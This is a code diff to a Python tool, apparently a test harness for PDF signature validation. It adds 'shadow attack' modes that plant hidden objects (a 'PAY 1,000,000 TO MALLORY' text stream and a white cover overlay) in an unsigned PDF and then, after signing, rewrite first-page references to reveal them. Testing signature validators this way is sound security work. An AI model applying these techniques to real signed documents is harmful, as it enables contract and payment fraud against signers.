@@ -4,6 +4,11 @@
 Modes: range-null, contents-empty, range-outside, byte-flip, isa-xref, isa-noxref, wrap,
 remove-field, digest-flip. In-place edits keep every length, so cross-reference offsets stay
 right and only the attacked thing differs.
+
+Shadow attacks take two steps: `plant` (on the UNSIGNED file) appends objects that nothing uses
+(a content stream, an opaque overlay annotation with its appearance), so they ride inside the
+revision that is then signed; `shadow-hide`, `shadow-replace` and `shadow-hide-replace` (on the
+signed planted file) only change references on the first page to reveal them.
 """
 import re
 import subprocess
@@ -53,6 +58,88 @@ def first_page_contents():
         node = kids.group(1)
     raise SystemExit("page tree too deep")
 
+
+def first_page():
+    root = re.search(r"/Root (\d+) 0 R", qpdf_show("trailer")).group(1)
+    node = re.search(r"/Pages (\d+) 0 R", qpdf_show(root)).group(1)
+    for _ in range(32):
+        kids = re.search(r"/Kids \[ *(\d+) 0 R", qpdf_show(node))
+        if not kids:
+            return int(node)
+        node = kids.group(1)
+    raise SystemExit("page tree too deep")
+
+
+def planted(marker):
+    """The number of the planted object whose dictionary carries /PactumShadow /marker."""
+    found = re.search(rb"(\d+) 0 obj\s*<<[^>]*/PactumShadow /" + marker.encode(), bytes(pdf))
+    if not found:
+        raise SystemExit("no planted " + marker + " object (run plant before signing)")
+    return int(found.group(1))
+
+
+def reveal(annot=None, contents=None):
+    """Points the first page at planted objects: an extra /Annots item and/or new /Contents."""
+    page = first_page()
+    text = qpdf_show(str(page))
+    objects = []
+    if annot is not None:
+        indirect = re.search(r"/Annots (\d+) 0 R", text)
+        if indirect:
+            array = qpdf_show(indirect.group(1)).rstrip().rstrip("]")
+            objects.append((int(indirect.group(1)), ("%s %d 0 R ]" % (array, annot)).encode()))
+        elif "/Annots [" in text:
+            text = text.replace("/Annots [", "/Annots [ %d 0 R" % annot, 1)
+        else:
+            text = text.rstrip().rstrip(">") + " /Annots [ %d 0 R ] >>" % annot
+    if contents is not None:
+        text = re.sub(r"/Contents (\[[^\]]*\]|\d+ 0 R)", "/Contents " + contents, text, count=1)
+    objects.append((page, text.encode()))
+    update(objects)
+
+
+if mode == "plant":
+    trailer = qpdf_show("trailer")
+    size = int(re.search(r"/Size (\d+)", trailer).group(1))
+    hidden = b"BT /Helv 28 Tf 1 0 0 rg 72 400 Td (PAY 1,000,000 TO MALLORY) Tj ET"
+    cover = b"1 1 1 rg 0 0 2000 2000 re f"
+    objects = [
+        (size, b"<< /PactumShadow /Content /Length %d >>\nstream\n%s\nendstream" % (
+            len(hidden), hidden)),
+        (size + 1, b"<< /PactumShadow /Overlay /Type /Annot /Subtype /Square /F 4 "
+                   b"/Rect [0 0 2000 2000] /AP << /N %d 0 R >> >>" % (size + 2)),
+        (size + 2, b"<< /Type /XObject /Subtype /Form /BBox [0 0 2000 2000] /Length %d >>\n"
+                   b"stream\n%s\nendstream" % (len(cover), cover)),
+    ]
+    trailer_size = size + 3
+    root = re.search(r"/Root (\d+ \d+ R)", trailer).group(1)
+    prev = int(re.findall(rb"startxref\s+(\d+)", bytes(pdf))[-1])
+    out = bytearray(b"\n")
+    xref = b"xref\n"
+    for number, body in objects:
+        offset = len(pdf) + len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+        xref += b"%d 1\n%010d 00000 n\r\n" % (number, offset)
+    at = len(pdf) + len(out)
+    out += xref + b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        trailer_size, root.encode(), prev, at)
+    pdf.extend(out)
+    open(dst, "wb").write(pdf)
+    sys.exit(0)
+elif mode == "shadow-hide":
+    reveal(annot=planted("Overlay"))
+    open(dst, "wb").write(pdf)
+    sys.exit(0)
+elif mode == "shadow-replace":
+    reveal(contents="%d 0 R" % planted("Content"))
+    open(dst, "wb").write(pdf)
+    sys.exit(0)
+elif mode == "shadow-hide-replace":
+    page_contents = first_page_contents()
+    reveal(annot=planted("Overlay"), contents="[ %d 0 R %d 0 R ]" % (page_contents,
+                                                                    planted("Content")))
+    open(dst, "wb").write(pdf)
+    sys.exit(0)
 
 range_at = pdf.rfind(b"/ByteRange [")
 range_width = pdf.index(b"]", range_at) + 1 - range_at
